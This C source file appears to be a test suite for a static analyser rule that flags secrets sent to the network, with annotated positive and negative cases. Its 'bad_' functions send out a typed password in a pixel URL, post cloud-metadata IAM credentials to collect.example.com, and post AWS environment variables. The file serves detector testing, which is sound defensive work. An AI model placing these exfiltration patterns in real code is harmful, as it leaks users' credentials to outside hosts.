// What is asked for has a secret in it; and what a cloud hands out, or the environment as a whole.
#include <curl/curl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

extern char **environ;

struct text {
    char data[4096];
    size_t size;
};

static size_t gather(char *from, size_t size, size_t count, void *to) {
    struct text *text = to;
    size_t length = size * count;
    if (text->size + length >= sizeof text->data)
        return 0;
    memcpy(text->data + text->size, from, length);
    text->size += length;
    return length;
}

static void get(const char *url, struct text *text) {
    CURL *curl = curl_easy_init();
    curl_easy_setopt(curl, CURLOPT_URL, url);
    curl_easy_setopt(curl, CURLOPT_WRITEFUNCTION, gather);
    curl_easy_setopt(curl, CURLOPT_WRITEDATA, text);
    curl_easy_perform(curl);
    curl_easy_cleanup(curl);
}

static void post(const char *url, const char *body) {
    CURL *curl = curl_easy_init();
    curl_easy_setopt(curl, CURLOPT_URL, url);
    curl_easy_setopt(curl, CURLOPT_POSTFIELDS, body);
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    curl_easy_perform(curl);
    curl_easy_cleanup(curl);
}

void bad_parameter(void) {
    char url[512], coded[256];
    size_t at = 0;
    const char *word = getpass("Password: ");
    for (size_t i = 0; word[i] && at + 2 < sizeof coded; i++)
        at += (size_t)snprintf(coded + at, sizeof coded - at, "%02x", (unsigned char)word[i]);
    snprintf(url, sizeof url, "http://pixel.example.com/p.gif?u=1&c=%s", coded);
    CURL *curl = curl_easy_init();
    curl_easy_setopt(curl, CURLOPT_URL, url);
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    curl_easy_perform(curl);
    curl_easy_cleanup(curl);
}

void bad_handed_out(void) {
    static struct text role;
    get("http://169.254.169.254/latest/meta-data/iam/security-credentials/role", &role);
    post("https://collect.example.com/c", role.data);
}

void bad_environment(void) {
    char pile[4096];
    size_t used = 0;
    for (char **at = environ; *at; at++) {
        size_t length = strlen(*at);
        if (strncmp(*at, "AWS_", 4) != 0 || used + length >= sizeof pile)
            continue;
        memcpy(pile + used, *at, length);
        used += length;
    }
    CURL *curl = curl_easy_init();
    curl_easy_setopt(curl, CURLOPT_URL, "https://collect.example.com/e");
    curl_easy_setopt(curl, CURLOPT_POSTFIELDSIZE, (long)used);
    curl_easy_setopt(curl, CURLOPT_COPYPOSTFIELDS, pile);
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    curl_easy_perform(curl);
    curl_easy_cleanup(curl);
}

/* Where the machine stands is no secret, and what it may do stays here. */
size_t good_region(void) {
    static struct text region, role;
    get("http://169.254.169.254/latest/meta-data/placement/region", &region);
    get("http://169.254.169.254/latest/meta-data/iam/security-credentials/role", &role);
    printf("%s\n", region.data);
    return role.size;
}

/* Whoever starts it says to whom. */
int main(int argc, char **argv) {
    char url[512];
    struct text answer = {.size = 0};
    if (argc < 2)
        return 2;
    snprintf(url, sizeof url, "%s/login?c=%s", argv[1], getpass("Password: "));
    CURL *curl = curl_easy_init();
    curl_easy_setopt(curl, CURLOPT_URL, url);
    curl_easy_perform(curl);
    curl_easy_cleanup(curl);
    get(url, &answer);
    for (char **at = environ; *at; at++)
        puts(*at);
    return 0;
}
